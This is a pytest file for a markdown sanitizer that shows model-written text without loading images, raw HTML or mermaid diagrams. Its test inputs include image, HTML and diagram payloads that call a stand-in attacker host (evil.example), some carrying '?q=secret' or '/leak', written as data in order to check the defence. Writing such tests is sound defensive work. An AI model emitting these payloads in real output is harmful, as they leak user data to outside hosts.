"""What models wrote, drawn: everything that means something stays, nothing loads or draws a diagram.

Here the rule is tested without the policy that forbids the same calls to a browser;
``tests/browser/test_other_hosts.py`` has both.
"""

import random
import re

import pytest
from markdown_it import MarkdownIt
from markdown_it.common.utils import unescapeAll
from markdown_it.token import Token

from core.ui import maths, show
from core.ui.datasets import diff_view
from core.ui.markdown import DEEPEST, MOST_BRACKETS, PARSER, as_written, verbatim

# raw HTML is read as such
AS_BROWSERS = MarkdownIt("commonmark", {"maxNesting": 200}).enable(["table", "strikethrough"])
TO = "http://evil.example"
DIAGRAM = f'flowchart TD\nA@{{ img: "{TO}/leak", label: "x" }}\nA --> B'
INFOS = (
    "mermaid",
    "Mermaid",
    "MERMAID",
    " mermaid",
    "mermaid title='x'",
    "mermaid.js",
    "mermaid-x",
    "mer&#109;aid",
    "\\mermaid",
)


def tokens_of(markdown: str) -> list[Token]:
    found = AS_BROWSERS.parse(markdown)
    return found + [child for token in found for child in token.children or ()]


def assert_safe(markdown: str) -> None:
    for token in tokens_of(markdown):
        assert token.type not in ("image", "html_inline", "html_block"), f"{token.type}: {token.content}"
        assert "mermaid" not in unescapeAll(token.info).lower()


@pytest.mark.parametrize("fence", ["```", "~~~", "``````", "~~~~"])
@pytest.mark.parametrize(
    ("first", "further"),
    [
        ("", ""),
        ("   ", "   "),
        ("text\n", ""),
        ("- item\n\n  ", "  "),
        ("1. ", "   "),
        ("> ", "> "),
        ("> - > ", ">   > "),
        ("| a |\n|---|\n| b |\n", ""),
    ],
)
def test_a_diagram_is_shown_as_its_source(first: str, further: str, fence: str) -> None:
    for info in INFOS:
        written = first + f"\n{further}".join([f"{fence}{info}", *DIAGRAM.split("\n"), fence])
        drawn = as_written(written)
        assert_safe(drawn)
        assert [token.content for token in tokens_of(drawn) if token.type == "fence"] == [DIAGRAM + "\n"], (
            written
        )


@pytest.mark.parametrize("end", range(1, len(f"```mermaid\n{DIAGRAM}\n```") + 1, 3))
def test_a_diagram_that_grows_is_never_drawn(end: int) -> None:
    written = f"```mermaid\n{DIAGRAM}\n```"[:end]
    assert_safe(as_written(f"{written} ▌"))


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({TO})",
        f"![x](<{TO}> 'title')",
        f"![x][r]\n\n[r]: {TO}",
        f"![r]\n\n[r]: {TO}",
        f"[![x]({TO})](/home)",
        f"![![x]({TO})]({TO})",
        f"!\\[x]({TO}) ![x\\]]({TO})",
        f"a ``` that ends nothing ![x]({TO})",
        f"[a](x`y) ![x]({TO}) `",
        f"`` ` `` ![x]({TO}) ``",
        f"| a |\n|---|\n| ![x]({TO}) |",
        f"# ![x]({TO})",
        f"- ![x]({TO})\n  > ![x]({TO})",
        f"**![x]({TO})** ~~![x]({TO})~~",
        f"<img src={TO}>",
        f"<img\nsrc='{TO}'>",
        f"<!-- --><style>@import '{TO}'</style>",
        f"&lt;img src={TO}&gt; &#33;[x]({TO})",
        f":red[![x]({TO})] :color[x]{{background='url({TO})'}}",
    ],
)
def test_a_picture_is_a_link(text: str) -> None:
    drawn = as_written(text)
    assert_safe(drawn)
    assert_safe(as_written(f"{text} ▌"))


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("It costs $5 or $10.", "It costs \\$5 or \\$10."),
        ("![x](http://evil/?q=secret)", "[x](<http://evil/?q=secret>)"),
        ("![](http://evil/)", "[http\\://evil/](<http://evil/>)"),
        ("one\ntwo", "one  \ntwo"),
        (":red[hot]", "\\:red\\[hot\\]"),
        ("`$x$` and\n```\n$y$\n```", "`$x$` and\n\n```\n$y$\n```"),
        ("<b>x</b>", "\\<b\\>x\\</b\\>"),
        ("```py\nx = 1\n", "```py\nx = 1\n```"),
        ("~~~\n```\n~~~", "````\n```\n````"),
        ("    x\n", "```\nx\n```"),
        ("*a **b** c* ~~d~~ __e__", "*a **b** c* ~~d~~ __e__"),
        ("[a](http://b.example/?c=1&d=2)", "[a](<http://b.example/?c=1&amp;d=2>)"),
        ("- a\n- b\n  - c", "- a\n- b\n  - c"),
        ("- a\n\n  b\n- c", "- a\n\n  b\n\n- c"),
        ("3. a\n4. b", "3. a\n4. b"),
        ("- [ ] to do\n- [x] done", "- [ ] to do\n- [x] done"),
        ("> a\n>\n> b", "> a\n>\n> b"),
        ("a\n===\nb", "# a\n\nb"),
        ("| a | b |\n|:--|--:|\n| `x\\|y` | **z** |", "| a | b |\n| :--- | ---: |\n| `x\\|y` | **z** |"),
        ("1\\. no list\n\\- nor this", "1\\. no list  \n\\- nor this"),
        ("", ""),
        ("$E=mc^2$ and \\(a^2\\)", "$E=mc^2$ and $a^2$"),
        ("$$\\int_0^1 x dx$$", "$$\n\\int_0^1 x dx\n$$"),
        ("so\n\\[\n\\sum_i\n= x_i\n\\]\nis it", "so\n\n$$\n\\sum_i\n= x_i\n$$\n\nis it"),
        ("- a\n  $$\n  x\n  $$", "- a\n\n  $$\n  x\n  $$"),
        ("$a<b$ $x$", "$a\\lt b$ $x$"),
        ("\\(a\\)\\(b\\)", "$a$:gray[]$b$"),
        ("| $x$ | \\(\\|y\\|\\) |\n|--|--|", "| $x$ | $\\vert y\\vert $ |\n| --- | --- |"),
        (":smile: `:smile:`", "\\::gray[]smile\\: `:smile:`"),
        ("see :material/home:", "see \\::gray[]material/home\\:"),
        ("a -> b <-> c", "a -:gray[]\\> b \\<:gray[]-:gray[]\\> c"),
    ],
)
def test_what_means_something_stays(text: str, drawn: str) -> None:
    assert as_written(text) == drawn


@pytest.mark.parametrize(
    "text",
    [
        "costs $5, or 10$.",
        "between $HOME and $PATH",
        "$HOME/bin:$PATH",
        "see \\[1\\] and \\[2\\]",
        "US$5/US$ or $100/month or 90$ a day",
        "pay $3 to $a and $ b $",
        f"$![x]({TO})$ $[a]({TO})$",
        "$\\href{http://evil}{x}$ and $$\\includegraphics{x}$$",
        "$\\rule{99em}{99em}$ \\(\\raisebox{9em}{x}\\)",
        "$" + "x" * 3000 + "$",
    ],
)
def test_what_is_no_formula_stays_text(text: str) -> None:
    drawn = as_written(text)
    assert_safe(drawn)
    assert not re.search(r"(?<!\\)\$", drawn)


def test_a_formula_that_grows_is_text_until_it_is_whole() -> None:
    written = "so $$\\frac{1}{2}$$"
    for end in range(1, len(written)):
        assert not re.search(r"(?<!\\)\$", as_written(written[:end])), written[:end]


def test_addresses_in_text_stay_whole_for_whoever_makes_links_of_them() -> None:
    (block,) = (
        token
        for token in tokens_of(as_written("See https://a.example/b_c_d?e=1&f=2."))
        if token.type == "text"
    )
    assert block.content == "See https://a.example/b_c_d?e=1&f=2."


@pytest.mark.parametrize("seed", range(3))
def test_no_mixture_draws_anything_else(seed: int) -> None:
    parts = [
        "```",
        "~~~",
        "`",
        "``",
        "mermaid",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "1. ",
        "    ",
        "![",
        "](",
        ")",
        "[",
        "]",
        f"({TO})",
        "<",
        ">",
    ]
    parts += [
        "<img src=x>",
        "|",
        "|---|",
        "\\",
        "*",
        "**",
        "_",
        "~~",
        "$",
        "a",
        " ",
        "[r]: /x\n",
        "[r]",
        "#",
        "&#33;",
        "\t",
        "!",
        "$$",
        "\\(",
        "\\)",
        "x^2",
        ":smile:",
        "->",
    ]
    draw = random.Random(seed)
    for _ in range(150):
        text = "".join(draw.choices(parts, k=draw.randint(2, 24)))
        drawn = as_written(text)
        assert_safe(drawn)
        with PARSER.reset_rules():  # a bracket that was escaped looks like the beginning of a formula
            PARSER.disable([maths.INLINE, maths.BLOCK])
            again = as_written.__wrapped__(drawn)
        assert tokens_as_text(again) == tokens_as_text(drawn), repr(text)


def tokens_as_text(markdown: str) -> str:
    """What a browser shows, where the empty parts that cut a text are nothing."""
    found = (token for token in tokens_of(markdown) if token.type in ("text", "code_inline", "fence"))
    return "".join(token.content for token in found).replace(show.NOTHING, "")


@pytest.mark.parametrize("text", [">" * (DEEPEST + 20) + " a", "[" * (MOST_BRACKETS + 1)])
def test_what_the_parser_cannot_read_is_shown_as_it_is(text: str) -> None:
    assert as_written(text) == verbatim(text)


def test_names_within_a_type_are_shown_as_they_are() -> None:
    column = {
        "name": f"![n]({TO})",
        "type": f'STRUCT("![t]({TO})" VARCHAR)',
        "from": f'STRUCT("![f]({TO})" INTEGER)',
        "to": "VARCHAR",
    }
    for badge in diff_view.build_schema({"added": [column], "removed": [column], "changed": [column]}):
        assert_safe(badge)
